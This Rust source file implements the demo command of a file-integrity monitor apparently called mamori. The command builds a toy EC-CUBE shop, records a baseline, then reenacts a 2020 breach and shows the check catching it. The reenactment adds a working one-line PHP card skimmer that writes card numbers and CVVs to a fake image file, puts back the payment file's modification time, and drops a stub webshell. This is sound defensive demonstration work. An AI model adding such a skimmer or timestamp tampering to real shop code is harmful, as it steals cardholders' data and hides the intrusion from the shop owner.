//! `mamori demo`: the founding incident in miniature, on a built-in demo shop. Builds a
//! small EC-CUBE-like shop, baselines it, then does what the 2020 attacker did (alter the
//! payment module and put its modification time back, drop a webshell in the upload
//! directory) and runs `check`.

use crate::ctx::Ctx;
use anyhow::Result;
use clap::Args;
use mamori_core::tr;
use std::path::PathBuf;

#[derive(Args, Debug)]
pub struct DemoArgs {
    /// Where to build the demo shop (default: a new directory under /tmp).
    #[arg(long, value_name = "DIR")]
    pub dir: Option<PathBuf>,
}

const PAYMENT: &str = r#"<?php
// Card payment module (demo shop).
require_once __DIR__ . '/Gateway.php';

function card_payment(array $post): array
{
    $card = [
        'name' => $post['card_name'] ?? '',
        'number' => preg_replace('/\D/', '', $post['card_number'] ?? ''),
        'exp' => $post['card_exp'] ?? '',
        'cvv' => $post['card_cvv'] ?? '',
    ];
    return shop_gateway_charge($card);
}
"#;

const SKIMMER_LINE: &str = "    @file_put_contents(__DIR__ . '/../../../html/upload/save_image/0412_main2.jpg', implode('|', $card) . \"\\n\", FILE_APPEND);\n";

pub fn run(ctx: &Ctx, a: &DemoArgs) -> Result<u8> {
    let lang = ctx.lang;
    let dir = a.dir.clone().unwrap_or_else(|| {
        std::env::temp_dir().join(format!("mamori-demo-{}", std::process::id()))
    });
    let root = dir.join("shop");
    // Start from a clean shop each time (only our own demo directory is touched).
    if root.join("app/Plugin/Payment/CardPayment.php").exists() {
        std::fs::remove_dir_all(&root)?;
    }
    let files: &[(&str, &str)] = &[
        (
            "index.php",
            "<?php require __DIR__ . '/app/Plugin/Payment/CardPayment.php';\n",
        ),
        ("app/Plugin/Payment/CardPayment.php", PAYMENT),
        (
            "app/Plugin/Payment/Gateway.php",
            "<?php\nfunction shop_gateway_charge(array $c): array { return ['status' => 'ok']; }\n",
        ),
        (
            "app/template/default/Shopping/index.twig",
            "<form method=\"post\" action=\"/shopping/checkout\">\n  <input name=\"card_number\" autocomplete=\"cc-number\">\n</form>\n",
        ),
        (
            "html/template/default/assets/js/checkout.js",
            "document.querySelector('form').addEventListener('submit', () => {});\n",
        ),
        (
            "html/upload/save_image/0412_main2.jpg",
            "\u{ff}\u{d8}\u{ff}\u{e0}JFIF",
        ),
        (
            "src/Eccube/Kernel.php",
            "<?php namespace Eccube; class Kernel {}\n",
        ),
        (
            "vendor/symfony/http-kernel/Kernel.php",
            "<?php namespace Symfony; class Kernel {}\n",
        ),
        ("var/cache/prod/container.php", "<?php // cache, ignored\n"),
    ];
    for (p, c) in files {
        let f = root.join(p);
        if let Some(parent) = f.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(&f, c)?;
    }
    let d = dir.display();
    ctx.note(&tr!(
        lang,
        "1. A demo EC-CUBE shop in {d}/shop",
        "1. デモ用の EC-CUBE ショップを {d}/shop に作成しました"
    ));
    let cfg = dir.join("mamori.toml");
    let init = super::init::InitArgs {
        root: vec![root.clone()],
        flavor: super::init::FlavorArg::Auto,
        state: None,
        force: true,
    };
    let _ = std::fs::remove_dir_all(dir.join(".mamori"));
    ctx.note(&tr!(
        lang,
        "2. mamori init: shop detected, critical paths chosen, first signed baseline:",
        "2. mamori init: ショップを判別し、重要パスを設定し、最初の署名付きベースラインを作成:"
    ));
    super::init::init_at(ctx, &cfg, &init)?;

    ctx.note(&tr!(
        lang,
        "3. The attack of 2020: the payment module gets one skimming line and its modification time is put back; a webshell lands in the upload directory.",
        "3. 2020 年の攻撃を再現: 決済モジュールにカード情報を盗む 1 行を加えて更新日時を元に戻し、アップロード用ディレクトリに Web シェルを置きます。"
    ));
    let pm = root.join("app/Plugin/Payment/CardPayment.php");
    let mtime = std::fs::metadata(&pm)?.modified()?;
    let tampered = PAYMENT.replace(
        "    return shop_gateway_charge($card);",
        &format!("{SKIMMER_LINE}    return shop_gateway_charge($card);"),
    );
    std::fs::write(&pm, tampered)?;
    std::fs::File::options()
        .write(true)
        .open(&pm)?
        .set_modified(mtime)?;
    std::fs::write(
        root.join("html/upload/save_image/.cache.php"),
        "<?php if (isset($_POST['x'])) { /* demo webshell, inert */ }\n",
    )?;

    ctx.note(&tr!(
        lang,
        "4. mamori check:\n",
        "4. mamori check の結果:\n"
    ));
    let loaded = mamori_core::config::load(&cfg)?;
    let store = crate::ctx::open_store(&loaded.db_path(), &loaded.key_file())?;
    let Some(base) = store.baseline_load()? else {
        anyhow::bail!("demo: baseline missing");
    };
    drop(store);
    let cmp = super::check::compare(ctx, &loaded, base, false)?;
    crate::ctx::open_store(&loaded.db_path(), &loaded.key_file())?
        .append_findings(&cmp.findings)?;
    ctx.emit(&cmp.findings)?;
    let caught = cmp
        .findings
        .iter()
        .any(|f| f.path.as_deref() == Some("app/Plugin/Payment/CardPayment.php"));
    let c = cfg.display();
    ctx.note(&tr!(
        lang,
        "\nTry it yourself: mamori --config {c} check   (undo with: rm -r {d})",
        "\n自分で試すには: mamori --config {c} check   (後片付け: rm -r {d})"
    ));
    Ok(if caught { 0 } else { 1 })
}
